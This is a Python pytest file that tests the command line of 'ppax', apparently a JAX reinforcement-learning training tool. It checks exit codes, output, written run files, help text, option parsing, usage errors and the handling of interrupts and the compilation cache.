"""Command line: options, exit codes, standard output and standard error, written files."""

import io
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import time
import tomllib
import zipfile
from pathlib import Path

import jax
import pytest

import ppax
from ppax import config
from ppax.cli import main, options, sweep
from ppax.cli.arguments import number_or_text
from ppax.cli.common import fail, print_line
from ppax.core.options import LISTS
from ppax.run import checkpoint, python_objects
from ppax.storage.manifest import CheckpointError

TINY = ["--num-envs", "4", "--num-steps", "8", "--total-steps", "96", "--eval.episodes", "4"]
TINY += ["--agent.network.hidden", "8", "--agent.num-epochs", "1", "--log.every", "1"]


@pytest.fixture(scope="module")
def cache(tmp_path_factory):
    """Cache of compiled programs shared by these tests, instead of the user's."""
    return tmp_path_factory.mktemp("cache")


@pytest.fixture(autouse=True)
def _sandbox(cache, tmp_path, monkeypatch):
    """Run in an empty directory."""
    from jax.experimental.compilation_cache import compilation_cache

    monkeypatch.setenv("XDG_CACHE_HOME", str(cache))
    monkeypatch.delenv("JAX_COMPILATION_CACHE_DIR", raising=False)
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    compilation_cache.reset_cache()


def call(*arguments):
    """Return the exit code of a command run in this process; argparse raises SystemExit."""
    try:
        return main.main([str(x) for x in arguments])
    except SystemExit as left:
        return left.code


def process(*arguments, **variables):
    """Run a command in a process of its own."""
    source = str(Path(ppax.__file__).parents[1])
    command = [sys.executable, "-m", "ppax", *map(str, arguments)]
    environment = os.environ | {"PYTHONPATH": source} | {name: str(value) for name, value in variables.items()}
    return subprocess.run(command, env=environment, capture_output=True, text=True, timeout=240, check=False)


def final_bytes(directory):
    path, _ = checkpoint.newest_valid(Path(directory) / "checkpoints")
    return (path / "state.safetensors").read_bytes()


@pytest.fixture(scope="module")
def trained(tmp_path_factory, cache):
    """Directory and output of a training run."""
    folder = tmp_path_factory.mktemp("trained")
    variables = {"XDG_CACHE_HOME": cache, "HOME": folder / "home", "PYTHONWARNINGS": "error::RuntimeWarning"}
    done = process("train", "CartPole-v1", *TINY, "--json", "--run-dir", folder / "run", **variables)
    assert done.returncode == 0, done.stderr
    return folder / "run", done


# ---------------------------------------------------------------- train


def test_train_prints_one_json_object_and_progress_to_stderr(trained):
    directory, done = trained
    assert len(done.stdout.splitlines()) == 1
    result = json.loads(done.stdout)
    assert {"mean_return", "env_steps", "steps_per_second", "compile_seconds", "run_dir"} <= result.keys()
    assert result["run_dir"] == str(directory)
    assert 8 <= result["mean_return"] <= 500
    assert result["mean_return"] == result["mean_length"], "CartPole pays 1 a step"
    assert 0 < result["env_steps"] <= 96
    assert result["iterations"] == 3
    assert result["episodes"] == 4
    assert result["steps_per_second"] > 0
    assert result["compile_seconds"] > 0
    assert time.time() - 3600 < result["started_at"] < time.time()
    for text in ("CartPole-v1", "mean return", f"ppax evaluate {directory}", str(directory / "run.toml"), "steps/s"):
        assert text in done.stderr
    assert "warning" not in done.stderr.lower()
    rows = [json.loads(line) for line in (directory / "metrics.jsonl").read_text().splitlines()]
    assert rows[-1]["env_steps"] == result["env_steps"]


def test_train_writes_to_the_run_directory_only(trained, cache):
    directory, _ = trained
    expected = {".lock", "about.json", "checkpoints", "metrics.csv", "metrics.jsonl", "run.toml", "stopped.json"}
    expected |= {"evaluation.json", "policy.json"}
    assert set(os.listdir(directory)) <= expected | {".owner"}
    assert os.listdir(directory.parent) == ["run"], "nothing in the home directory either"
    assert os.listdir(cache) == ["ppax"]
    assert os.listdir(cache / "ppax" / "jax")


def test_the_run_file_reproduces_the_run(trained, tmp_path):
    directory, _ = trained
    again = process("train", directory / "run.toml", "--run-dir", tmp_path / "again")
    assert again.returncode == 0, again.stderr
    assert final_bytes(tmp_path / "again") == final_bytes(directory)
    assert (tmp_path / "again" / "run.toml").read_bytes() == (directory / "run.toml").read_bytes()
    assert "mean return" in again.stdout, "without --json the text is the result"
    assert config.resolve(tomllib.loads((directory / "run.toml").read_text())) == config.resolve(
        config.read(directory / "run.toml")
    )


def test_a_run_directory_is_accepted_in_place_of_its_run_file(trained, parse):
    directory, _ = trained
    assert parse(directory) == parse(directory / "run.toml")


def test_another_seed_is_another_run(trained, tmp_path):
    directory, _ = trained
    assert call("train", directory / "run.toml", "--seed", 1, "--run-dir", tmp_path / "again") == 0
    assert final_bytes(tmp_path / "again") != final_bytes(directory)


def test_a_new_run_directory_each_time(capsys):
    for _ in range(2):
        assert call("train", "CartPole-v1", *TINY, "--no-log.console") == 0
    names = os.listdir("runs")
    assert len(names) == 2
    assert all(name.startswith("CartPole-v1-") and "seed0" in name for name in names)
    assert "runs" in capsys.readouterr().out


def test_a_directory_that_holds_a_run_is_refused(trained, capsys):
    directory, _ = trained
    before = (directory / "metrics.jsonl").read_bytes()
    assert call("train", "CartPole-v1", *TINY, "--run-dir", directory) == 2
    assert f"ppax resume {directory}" in capsys.readouterr().err
    assert (directory / "metrics.jsonl").read_bytes() == before


def test_a_numerical_fault_exits_with_code_4(tmp_path, capsys):
    bad = ["--agent.learning-rate", "1e38", "--agent.max-grad-norm", "none", "--agent.optimizer.eps", "2e-38"]
    assert call("train", "Pendulum-v1", *TINY, *bad, "--total-steps", "960", "--run-dir", tmp_path / "run") == 4
    text = capsys.readouterr().err
    assert "not finite" in text
    assert "learning_rate" in text


# ---------------------------------------------------------------- resume and evaluate


def test_resume_of_a_finished_run(trained, capsys):
    directory, _ = trained
    before = final_bytes(directory)
    assert call("resume", directory, "--json") == 0
    result = json.loads(capsys.readouterr().out.splitlines()[-1])
    assert result["iterations"] == 3
    assert final_bytes(directory) == before


def test_options_given_to_resume_name_fine_tuning_with_the_line_to_type(trained, tmp_path, capsys):
    """The line is run as it is printed."""
    run = shutil.copytree(trained[0], tmp_path / "run")
    flags = ["--agent.learning_rate", "1e-4", "--agent.loss=spo", "--total-steps", 64]
    assert call("resume", run, *flags) == 2
    said = capsys.readouterr().err
    assert "--agent.learning-rate: a resumed run keeps the settings that it began with; to fine-tune it" in said
    line = said.strip().partition("others: ppax ")[2]
    assert line == f"train {run} --init-from {run} --agent.learning_rate 1e-4 --agent.loss=spo --total-steps 64"
    assert call(*shlex.split(line), "--run-dir", tmp_path / "tuned") == 0
    found = tomllib.loads((tmp_path / "tuned" / "run.toml").read_text())
    assert (found["agent"]["learning_rate"], found["agent"]["loss"]["part"]) == (1e-4, "spo")
    assert found["init_from"]["run"] == str(run)


@pytest.mark.parametrize(
    ("argument", "text"),
    [
        ("--log.every", "reads log.every from {file}: write it there, and resume without it"),
        ("--stop", "reads stop from {file}: write it there"),
        (
            "--env-params.gravity",
            "to fine-tune it with others: ppax train {run} --init-from {run} --env-params.gravity 5",
        ),
        ("--lr", "unknown option '--lr'; did you mean --agent.learning-rate?"),
        ("--nonsense", "has no such argument"),
    ],
)
def test_other_options_given_to_resume(trained, argument, text, capsys):
    run = trained[0]
    assert call("resume", run, argument, 5) == 2
    assert text.format(run=run, file=run / "run.toml") in capsys.readouterr().err


def test_options_given_to_the_resume_of_a_sweep_name_another_sweep(tmp_path, capsys):
    (tmp_path / "sweep.toml").write_text('env = "CartPole-v1"\n[sweep]\n"agent.gamma" = [0.9]\n')
    assert call("resume", tmp_path, "--agent.learning-rate", "1e-4") == 2
    line = f"another sweep: ppax sweep {tmp_path / 'sweep.toml'} --agent.learning-rate 1e-4"
    assert line in capsys.readouterr().err


def test_evaluate_is_deterministic_and_writes_nothing(trained, capsys):
    directory, done = trained
    before = {p: p.stat().st_mtime_ns for p in directory.rglob("*")}

    def evaluate(*more):
        assert call("evaluate", directory, "--json", *more) == 0
        said = capsys.readouterr()
        assert "mean return" in said.err
        return json.loads(said.out.splitlines()[-1])

    first, second = evaluate(), evaluate()
    numbers = ("mean_return", "std_return", "mean_length", "episodes", "env_steps")
    assert [first[name] for name in numbers] == [second[name] for name in numbers]
    assert first["mean_return"] == json.loads(done.stdout)["mean_return"], "as at the end of training"
    assert evaluate("--episodes", 9)["episodes"] == 9
    unknown = {"steps_per_second", "train_seconds", "started_at", "compile_seconds", "stopped"}
    assert unknown & first.keys() == set(), "nothing was trained here"
    assert evaluate("--seed", 5)["mean_return"] != first["mean_return"]
    assert evaluate("--env-params.max-steps", 4)["mean_return"] == 4.0, "in an environment with another parameter"
    sampled = evaluate("--sampled")
    assert sampled["mean_return"] != first["mean_return"]
    assert {p: p.stat().st_mtime_ns for p in directory.rglob("*")} == before, "evaluating changes nothing"


def test_export_and_evaluate_of_the_bundle(trained, tmp_path, capsys):
    """The bundle holds the run's configuration and scores, and its policy plays as that of the run."""
    directory, done = trained
    bundle = tmp_path / "policy.zip"
    assert call("export", directory, "--out", bundle, "--formats", "numpy", "--json") == 0
    said = capsys.readouterr()
    assert "numpy: acts as the policy; numbers differ by at most" in said.err
    assert json.loads(said.out)["formats"]["numpy"] < 1e-5
    with zipfile.ZipFile(bundle) as files:
        description = json.loads(files.read("policy.json"))
    result = json.loads(done.stdout)
    assert description["scores"]["mean_return"] == result["mean_return"]
    assert description["spec"]["config"] == tomllib.loads((directory / "run.toml").read_text())
    assert call("evaluate", bundle, "--json") == 0
    assert json.loads(capsys.readouterr().out)["mean_return"] == result["mean_return"]
    valued = tmp_path / "valued.zip"
    assert call("export", directory, "--out", valued, "--formats", "numpy", "--return-value", "--json") == 0
    assert json.loads(capsys.readouterr().out)["in_float32"] == []
    with zipfile.ZipFile(valued) as files:
        outputs = [x["name"] for x in json.loads(files.read("policy.json"))["outputs"]]
    assert outputs == [*(x["name"] for x in description["outputs"]), "value"]
    for option, given in (("--out", valued), ("--formats", "numpy")):
        assert call("export", directory, "--mlflow", tmp_path / "model", option, given) == 2
        assert f"leave out {option}" in capsys.readouterr().err
    assert call("evaluate", bundle, "--json", "--env-params.max_steps=4") == 0
    assert json.loads(capsys.readouterr().out)["mean_return"] == 4.0
    assert call("evaluate", bundle, "--env-params.gravty", 4) == 2
    assert "did you mean 'gravity'" in capsys.readouterr().err
    assert call("evaluate", bundle, "--eval.env-params.gravity", 4) == 2
    assert "--eval.env-params.gravity" in capsys.readouterr().err
    assert call("evaluate", bundle, "--best") == 2
    assert call("export", directory, "--out", bundle, "--formats", "numpy,onx") == 2
    assert "nearest: onnx" in capsys.readouterr().err
    bundle.write_bytes(bundle.read_bytes()[:-200])
    assert call("evaluate", bundle) == 5
    assert call("export", bundle, "--out", tmp_path / "other.zip") == 5


@pytest.mark.parametrize(
    ("arguments", "named"),
    [
        (["play", "--out", "nodir/x.gif"], "nodir/x.gif: there is no directory nodir"),
        (["play", "--out", "x.gif"], "x.gif: is a directory"),
        (["export", "--out", "."], "nearest valid value: policy.zip"),
        (["export", "--out", "/"], "nearest valid value: /policy.zip"),
        (["export", "--out", "nodir/x.zip"], "nodir/x.zip: there is no directory nodir"),
        (["report", "--out", "nodir/x.html"], "nodir/x.html: there is no directory nodir"),
    ],
    ids=lambda x: " ".join(x) if isinstance(x, list) else "",
)
def test_a_file_that_cannot_be_written_is_refused_before_any_work(trained, arguments, named, capsys, monkeypatch):
    def played(*_, **__):
        raise AssertionError("the policy is played first")

    monkeypatch.setattr("ppax.run.films.play", played)
    Path("x.gif").mkdir()
    verb, *rest = arguments
    assert call(verb, trained[0], *rest) == 2
    assert named in capsys.readouterr().err
    assert os.listdir(".") == ["x.gif"]


@pytest.mark.parametrize("arguments", [["export", "--formats", "numpy", "--out"], ["report", "--no-video", "--out"]])
def test_a_full_disk_is_reported_with_the_file(trained, arguments, capsys, monkeypatch):
    def full(*_):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    verb, *rest = arguments
    assert call(verb, trained[0], *rest, "there.zip") == 5
    assert capsys.readouterr().err.endswith("ppax: there.zip: No space left on device\n")


@pytest.mark.parametrize("verb", ["train", "sweep"])
@pytest.mark.parametrize("path", ["file", "file/inside"])
def test_a_run_directory_that_is_a_file_is_wrong_usage(verb, path, capsys):
    Path("file").write_text("mine")
    assert call(verb, "CartPole-v1", *TINY, "--run-dir", path) == 2
    assert f"run_dir = '{path}': file is a file; must be a new directory" in capsys.readouterr().err
    assert Path("file").read_text() == "mine"


def test_a_damaged_checkpoint_exits_with_code_5(trained, tmp_path):
    directory, _ = trained
    copy = tmp_path / "copy"
    (copy / "checkpoints" / "0000000003").mkdir(parents=True)
    (copy / "run.toml").write_bytes((directory / "run.toml").read_bytes())
    (copy / "checkpoints" / "0000000003" / "manifest.json").write_text("{}")
    done = process("evaluate", copy)  # in this process warnings are errors
    assert done.returncode == 5
    assert "warning: skipped a damaged checkpoint" in done.stderr
    assert "0000000003" in done.stderr
    assert "Traceback" not in done.stderr


@pytest.mark.parametrize("verb", ["resume", "evaluate"])
def test_a_missing_run_directory_is_refused(verb, tmp_path, capsys):
    assert call(verb, tmp_path / "nothing") == 2
    assert "run.toml" in capsys.readouterr().err
    assert not (tmp_path / "nothing").exists()


# ---------------------------------------------------------------- lists and help


def test_presets_and_envs(capsys):
    assert call("presets") == 0
    assert [line.split()[0] for line in capsys.readouterr().out.splitlines()] == ["preset", *config.presets()]
    assert call("presets", "--json") == 0
    assert list(json.loads(capsys.readouterr().out)) == list(config.presets())
    assert call("envs") == 0
    names = capsys.readouterr().out
    for name in ("CartPole-v1", "Pendulum-v1", "gymnax/"):
        assert name in names
    assert call("envs", "--json") == 0
    assert "CartPole-v1" in json.loads(capsys.readouterr().out)["builtin"]


def shown(value):
    if value is None or isinstance(value, bool):
        return str(value).lower() if value is None else str(value)
    return " ".join(map(str, value)) if isinstance(value, list | tuple) else str(value)


@pytest.mark.parametrize("target", ["Pendulum-v1", "CartPole-v1"])
def test_help_has_every_option_and_its_default(capsys, target):
    assert call("train", target, "--help", "all") == 0
    text = " ".join(capsys.readouterr().out.split())
    plan = config.completed(config.find(target)).config
    defaults = dict(config.flatten(config.resolve(plan)))
    for option in config.options(plan):
        flag = "--" + option.path.replace("_", "-")
        match = re.search(re.escape(f"{flag}") + r"[ ,].*?\(default: (.*?)\)", text[text.index("positional") :])
        assert match, flag
        default = defaults[option.path] or None if option.path.endswith("extensions") else defaults[option.path]
        assert match[1].lower() == (option.none if default is None else shown(default).lower()), flag
        assert " ".join(option.doc.split())[:20] in text


def test_help_shows_common_options_and_how_to_list_all(capsys):
    assert call("train", "--help") == 0
    text = capsys.readouterr().out
    flags = re.findall(r"(?m)^  (--(?!no-)[a-z.-]+)", text[text.index("usual options") :])
    assert flags == ["--" + path.replace("_", "-") for path in options.USUAL]
    assert len(flags) == 22
    assert "--help PART" in text
    assert "agent.loss" in text
    assert "--agent.loss.dual-clip" not in text
    for arguments in (["CartPole-v1", "--help", "agent.loss"], ["--help", "agent.loss", "--seed", "1"]):
        assert call("train", *arguments) == 0
        text = capsys.readouterr().out
        assert "--agent.loss.dual-clip" in text
        assert "--agent.gamma" not in text
    assert call("train", "--help", "agent.los") == 2
    assert "'agent.loss'" in capsys.readouterr().err


def test_help_without_a_target_says_which_defaults_depend_on_the_environment(capsys):
    def printed(*arguments):
        assert call("train", *arguments, "--help", "all") == 0
        text = capsys.readouterr().out
        lines = re.finditer(r"(?ms)^  --([a-z._-]+)[ ,](?:(?!^  --).)*?\(default:\s([^)]*)\)", text)
        return " ".join(text.split()), {one[1].replace("-", "_"): " ".join(one[2].split()) for one in lines}

    text, without = printed()
    assert "`ppax train TARGET --dry-run` prints" in text
    names = ("CartPole-v1", "Pendulum-v1", "rl8/MountainCar")
    completed = [dict(config.flatten(config.completed({"env": name, "preset": "none"}).config)) for name in names]
    differing = {path for path in completed[0] if len({str(one.get(path)) for one in completed}) > 1} - {"env"}
    assert len(differing) >= 4
    by_environment = {path for path, default in without.items() if default == "by environment"}
    assert differing | {"preset", "agent.normalize_obs", "agent.loss.clip_eps"} <= by_environment
    assert not by_environment & {"seed", "agent.vf_coef", "agent.schedule.part", "total_steps"}
    assert "by environment" not in printed("--preset", "styles/cleanrl")[1].values()
    assert printed("Pendulum-v1")[1]["preset"] == "Pendulum-v1"


def test_help_of_a_part_ends_with_the_command_for_another_part(capsys):
    assert call("train", "CartPole-v1", "--help", "agent.advantage") == 0
    last = capsys.readouterr().out.strip().splitlines()[-1]
    wanted = "ppax train TARGET --agent.advantage.part monte_carlo --help agent.advantage"
    assert last == f"These are the options of --agent.advantage.part gae; those of another part: {wanted}"
    assert call("train", "CartPole-v1", "--agent.advantage.part", "vtrace", "--help", "agent.advantage") == 0
    text = capsys.readouterr().out
    assert "--agent.advantage.rho-clip" in text
    assert "--agent.advantage.part vtrace; those of another part" in text
    assert call("train", "--help", "agent.gradient") == 0
    assert "those of another part" not in capsys.readouterr().out  # there is one only


def test_without_arguments_it_lists_commands_and_version(capsys):
    assert call() == 0
    assert "usage: ppax" in capsys.readouterr().out
    assert call("--version") == 0
    assert capsys.readouterr().out == f"ppax {ppax.__version__}\n"
    done = subprocess.run([sys.executable, "-m", "ppax", "--version"], capture_output=True, text=True, check=False)
    assert done.stdout == f"ppax {ppax.__version__}\n"


def test_help_of_every_command(capsys):
    for arguments in (["--help"], ["resume", "--help"], ["evaluate", "--help"], ["presets", "--help"]):
        assert call(*arguments) == 0
        assert "usage: ppax" in capsys.readouterr().out
    assert call("--help") == 0
    text = capsys.readouterr().out
    for verb in ("train", "resume", "evaluate", "selftest", "check-env", "bench", "score", "presets", "envs"):
        assert verb in text


# ---------------------------------------------------------------- options


@pytest.fixture
def parse(monkeypatch):
    """Return the configuration that `ppax train` builds from these arguments."""

    def plan_of(*arguments):
        plans = []

        def build(plan):
            plans.append(config.resolve(plan))
            raise ppax.ConfigError("seen enough")

        with monkeypatch.context() as patch:
            patch.setattr(config, "build", build)
            assert call("train", *arguments) == 2
        return plans[0]

    return plan_of


def test_options_with_dashes_or_underscores(parse):
    for flag in ("--agent.learning-rate", "--agent.learning_rate"):
        assert parse("Pendulum-v1", flag, "1e-5")["agent"]["learning_rate"] == 1e-5
        assert parse("Pendulum-v1", f"{flag}=1e-5")["agent"]["learning_rate"] == 1e-5
    assert parse("CartPole-v1", "--total-steps", "1e6")["total_steps"] == 10**6
    for given, meant in (("10", 10), ("1e1", 10), ("20 iterations", 20), ("50k steps", "50000 steps"), ("none", None)):
        assert parse("CartPole-v1", "--eval.every", given)["eval"]["every"] == meant
    assert parse("CartPole-v1", "--agent.max-grad-norm", "none")["agent"]["max_grad_norm"] is None
    assert parse("CartPole-v1", "--agent.network.hidden", 32, 16)["agent"]["network"]["hidden"] == [32, 16]
    assert parse("CartPole-v1", "--agent.network.hidden", "[]")["agent"]["network"]["hidden"] == []
    assert parse("CartPole-v1", "--agent.normalize-obs")["agent"]["normalize_obs"] is True
    assert parse("CartPole-v1", "--no-agent.normalize-obs")["agent"]["normalize_obs"] is False
    for given, meant in (("true", True), ("off", False), ("0", False), ("Yes", True)):
        for flag in (["--agent.normalize-obs", given], [f"--agent.normalize_obs={given}"]):
            assert parse("CartPole-v1", *flag, "--seed", "1")["agent"]["normalize_obs"] is meant
    assert parse("CartPole-v1", "--log.console", "false", "--seed", "1")["log"]["console"] is False
    for flag in (["--agent.network.memory", "gru"], ["--agent.network.memory=gru"]):
        plan = parse("CartPole-v1", *flag, "--agent.network.memory.width", "7")
        assert plan["agent"]["network"]["memory"] == {"part": "gru", "width": 7}


GIVEN = [option.path for option in config.options({"agent": {"schedule": {"part": "linear"}}})]


# of lists of parts: tests/config/test_lists.py; of extensions: tests/cli/test_extensions.py
@pytest.mark.parametrize("path", [path for path in GIVEN if path not in (*LISTS, "agent.extensions")])
def test_every_option_can_be_given(parse, path):
    base = {"agent": {"schedule": {"part": "linear"}}}
    option = next(o for o in config.options(base) if o.path == path)
    whole, broken = min(7, option.limits.get("high", 7)), option.limits.get("above", 0.0) + 0.5
    value = {int: whole, float: broken, str: "Pendulum-v1", bool: None}[option.kind]
    if "choices" in option.limits:
        value = option.limits["choices"][-1]
    flag = "--" + path.replace("_", "-")
    if option.kind is bool:
        value = not option.default
        given = [flag if value else "--no-" + flag[2:]]
    else:
        given = [flag, value]
    before = [] if path.endswith("schedule.part") else ["--agent.schedule.part", "linear"]
    plan = parse("Pendulum-v1", *before, *given)  # a preset: no environment is made
    several = [-value, value] if path == "clip_actions" else [value]
    assert dict(config.flatten(plan))[path] == (several if option.many else value)


def test_a_part_and_its_own_options(parse):
    plan = parse("Pendulum-v1", "--agent.schedule.part", "linear", "--agent.schedule.end", "0.1")
    assert plan["agent"]["schedule"] == {"part": "linear", "leaves": ["learning_rate"], "end": 0.1}
    plan = parse("Pendulum-v1", "--agent.schedule.end=0.1", "--agent.schedule.part=cosine")
    assert plan["agent"]["schedule"]["part"] == "cosine"
    assert plan["agent"]["schedule"]["end"] == 0.1
    # the preset has a linear schedule: another part starts from its defaults, the same part keeps its options
    assert parse("CartPole-v1", "--agent.schedule.part", "constant")["agent"]["schedule"] == {"part": "constant"}
    assert parse("CartPole-v1", "--agent.schedule.part", "linear")["agent"] == parse("CartPole-v1")["agent"]


def test_a_target_after_an_option_is_refused(capsys):
    """The target decides which options exist, so it must come first."""
    assert call("train", "--num-envs", 4, "Pendulum-v1") == 2
    assert "write the target first: ppax train Pendulum-v1" in capsys.readouterr().err


def test_an_option_wins_over_a_preset_and_a_file(parse, tmp_path):
    (tmp_path / "run.toml").write_text('env = "Pendulum-v1"\nseed = 3\n[agent]\ngamma = 0.5\n')
    plan = parse(tmp_path / "run.toml", "--agent.gamma", "0.25")
    assert (plan["env"], plan["seed"], plan["agent"]["gamma"]) == ("Pendulum-v1", 3, 0.25)
    assert parse("CartPole-v1", "--env", "Pendulum-v1")["env"] == "Pendulum-v1"


# ---------------------------------------------------------------- usage errors: fast, without written files

WRONG = [
    (["--agent.gama", "0.9"], "--agent.gamma"),
    (["--agent.lerning-rate=1"], "--agent.learning-rate"),
    (["--agent.lr", "1"], "--agent.learning-rate"),
    (["--n-steps", "1"], "--num-steps"),
    (["--nonsense"], "did you mean"),
    (["--agent.schedule.part", "constant", "--agent.schedule.end", "0.1"], "agent.schedule.end"),
    (["--agent.loss.part", "nothing"], "clipped"),
    (["--agent.loss.part"], "agent.loss.part"),
    (["--agent.gamma", "1.5"], "at most 1"),
    (["--agent.gamma", "nan"], "finite"),
    (["--agent.gamma", "much"], "invalid float value"),
    (["--agent.gamma"], "expected one argument"),
    (["--num-envs", "0"], "at least 1"),
    (["--num-envs", "2.5"], "invalid int value"),
    (["--num-envs", "nan"], "invalid int value"),
    (["--num-envs", "none"], "invalid int value"),
    (["--agent.network.activation", "sine"], "tanh"),
    (["--agent.network.hidden", "8", "0"], "at least 1"),
    (["--agent.minibatch.num-minibatches", "5"], "nearest"),
    (["--agent.seq-len", "3"], "nearest"),
    (["--seed", "-1"], "at least 0"),
    (["--env", "CartPole-v2"], "CartPole-v1"),
    (["extra"], "extra"),
    (["--num-envs", "1e400"], "num"),
    (["--log.every", "1e12"], "log.every"),
    (["--total-steps", "1e18"], "total"),
    (["--seed", str(2**64)], "at most"),
    (["--agent.schedule.part", "linear", "--agent.schedule.leaves", "gama"], "gamma"),
]


@pytest.mark.parametrize(("arguments", "named"), WRONG, ids=lambda x: " ".join(x) if isinstance(x, list) else "")
def test_usage_errors_are_reported_before_anything_is_written(arguments, named, tmp_path, capsys):
    begin = time.monotonic()
    code = call("train", "Pendulum-v1", *TINY, "--run-dir", tmp_path / "run", *arguments)
    assert code == 2
    assert time.monotonic() - begin < 5.0, "it was compiled first"
    assert named in capsys.readouterr().err
    assert not (tmp_path / "run").exists()
    assert os.listdir(".") == []


@pytest.mark.parametrize(
    ("arguments", "named"),
    [
        (["trian"], "did you mean `ppax train`"),
        (["CartPole-v1"], "`ppax train CartPole-v1`"),
        (["mine.toml"], "`ppax train mine.toml`"),
        (["train", "mine.yaml"], "mine.yaml: No such file"),
        (["train", __file__], "a run file is named .toml, .json, .yaml, .yml"),
        (["train", "."], "directory without run.toml"),
        (["train", "CartPole-v1", "--log.console", "maybe"], "--log.console true"),
        (["train", "CartPole-v1", "--no-log.console=false"], "--log.console false"),
        (["train", "CartPole-v1", "--stop", "(" * 4000 + "loss >= 1" + ")" * 4000], "parentheses"),
        (["train", "CartPole-v1", "--env-params." + "a." * 3000 + "b", "1"], "nested tables"),
        (["resume"], "run"),
        (["evaluate", ".", "--episodes", "many"], "invalid int value"),
        (["train", "CartPole-v2"], "CartPole-v1"),
        (["train", "CartPole-v1", "extra"], "ppax: 'extra': CartPole-v1 is the target, and there is only one"),
        (["train", "CartPole-v1", "--seed", "1", "2"], "ppax: '2': CartPole-v1 is the target"),
        (
            ["train", "CartPole-v1", "--agent.loss", "dpo", "--agent.loss.clip_eps", "1"],
            "it needs --agent.loss clipped or spo or rollback\n",
        ),
        (["train", "CartPole-v1", "--agent.network.memory.num-layers", "3"], "--agent.network.memory stack\n"),
        (["train", "missing.toml"], "ppax: missing.toml: No such file or directory\n"),
        (["train", "gymnax/Nothing-v0"], "Nothing-v0"),
    ],
    ids=lambda x: " ".join(x) if isinstance(x, list) else "",
)
def test_unknown_commands_are_refused(arguments, named, capsys):
    if "gymnax" in " ".join(arguments):
        pytest.importorskip("gymnax")
    assert call(*arguments) == 2
    assert named in capsys.readouterr().err
    assert os.listdir(".") == []


@pytest.mark.parametrize("seed", [-1, 2**64])
def test_an_evaluation_seed_out_of_range_is_refused(trained, seed, capsys):
    assert call("evaluate", trained[0], "--seed", seed) == 2
    assert "nearest valid value" in capsys.readouterr().err


@pytest.mark.parametrize("episodes", [0, -3])
def test_episodes_must_be_positive(trained, episodes, capsys):
    directory, _ = trained
    assert call("evaluate", directory, "--episodes", episodes) == 2
    assert "episodes" in capsys.readouterr().err


def test_an_unknown_option_in_a_process_fails_fast_without_traceback(tmp_path):
    done = process("train", "CartPole-v1", "--agent.gama", "1", "--run-dir", tmp_path / "run", HOME=tmp_path / "home")
    assert done.returncode == 2
    assert done.stdout == ""
    assert done.stderr.startswith("ppax: unknown option '--agent.gama'; did you mean --agent.gamma?")
    assert "Traceback" not in done.stderr
    assert not (tmp_path / "run").exists()
    assert not (tmp_path / "home").exists()


# ---------------------------------------------------------------- closed pipes and signals


def test_a_closed_output_pipe_does_not_end_the_run(tmp_path, cache):
    """`ppax train ... 2>&1 | head -n 1`: the pipe closes after the first line."""
    source = str(Path(ppax.__file__).parents[1])
    command = [sys.executable, "-m", "ppax", "train", "CartPole-v1", *TINY, "--run-dir", str(tmp_path / "run")]
    variables = os.environ | {"PYTHONPATH": source, "XDG_CACHE_HOME": str(cache)}
    process = subprocess.Popen(command, env=variables, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    assert process.stdout.readline()
    process.stdout.close()
    assert process.wait(240) == 0
    assert checkpoint.newest_valid(tmp_path / "run" / "checkpoints")[0].name == "0000000003"
    assert len((tmp_path / "run" / "metrics.jsonl").read_text().splitlines()) == 3


@pytest.fixture
def leaves(monkeypatch):
    """Exit codes passed to `os._exit`, which is replaced."""
    codes = []
    monkeypatch.setattr(os, "_exit", codes.append)
    return codes


def interrupted(*_, **__):
    raise KeyboardInterrupt


def test_ctrl_c_in_the_final_evaluation_reports_finished_training(leaves, monkeypatch, tmp_path, capsys):
    monkeypatch.setattr(ppax.TrainedRun, "evaluate", interrupted)
    call("train", "CartPole-v1", *TINY, "--run-dir", tmp_path / "run")
    assert leaves == [75]
    said = capsys.readouterr().err
    assert f"`ppax evaluate {tmp_path / 'run'}`" in said
    assert "resume" not in said


def test_ctrl_c_in_training_suggests_resume_if_the_run_has_started(leaves, monkeypatch, tmp_path, capsys):
    monkeypatch.setattr(main, "fit_run", interrupted)
    call("train", "CartPole-v1", *TINY, "--run-dir", tmp_path / "none")
    assert "resume" not in capsys.readouterr().err
    (tmp_path / "run").mkdir()
    (tmp_path / "run" / "run.toml").write_text("")
    call("train", "CartPole-v1", *TINY, "--run-dir", tmp_path / "run")
    assert f"`ppax resume {tmp_path / 'run'}`" in capsys.readouterr().err


@pytest.mark.parametrize("platform", ["tpu", "cuda"])
def test_an_unavailable_platform_is_refused(tmp_path, platform):
    done = process("train", "CartPole-v1", *TINY, "--run-dir", tmp_path / "run", JAX_PLATFORMS=platform)
    assert done.returncode == 2
    assert f"JAX_PLATFORMS = '{platform}'" in done.stderr
    assert "Traceback" not in done.stderr


# ---------------------------------------------------------------- seeds


@pytest.mark.parametrize(
    ("one", "other"),
    [
        (0, 1),
        (0, 2**32),
        (0, 2**64 - 1),
        (2**32, 2**33),
    ],
)
def test_every_bit_of_a_seed_matters(one, other):
    env = ppax.make("CartPole-v1", 2)
    agent = ppax.PPO(ppax.networks.mlp(env, (2,)), num_epochs=1)
    log = config.Log(console=False)
    keys = [
        jax.random.key_data(ppax.fit(agent, env, 8, seed, num_steps=4, log=log).state.key).tolist()
        for seed in (one, other)
    ]
    assert keys[0] != keys[1]


# ---------------------------------------------------------------- cache of compiled programs


def test_no_cache_writes_no_cache(trained, tmp_path):
    directory, _ = trained
    home = {"XDG_CACHE_HOME": tmp_path / "cache", "HOME": tmp_path / "home"}
    done = process("evaluate", directory, "--no-cache", **home)
    assert done.returncode == 0, done.stderr
    assert not (tmp_path / "cache").exists()
    assert not (tmp_path / "home").exists()
    assert done.stderr == "evaluation of 4 episodes ...\n", "nothing but progress and the result"


def test_the_users_own_cache_setting_wins(cache, tmp_path):
    before = str(tmp_path / "mine")
    jax.config.update("jax_compilation_cache_dir", before)
    assert call("resume", tmp_path / "nothing") == 2
    assert jax.config.jax_compilation_cache_dir == before
    jax.config.update("jax_compilation_cache_dir", None)
    assert call("resume", tmp_path / "nothing", "--no-cache") == 2
    assert jax.config.jax_compilation_cache_dir is None
    jax.config.update("jax_enable_compilation_cache", True)
    assert call("resume", tmp_path / "nothing") == 2
    assert jax.config.jax_compilation_cache_dir == str(cache / "ppax" / "jax")


# ---------------------------------------------------------------- values of one option inside another, texts of others


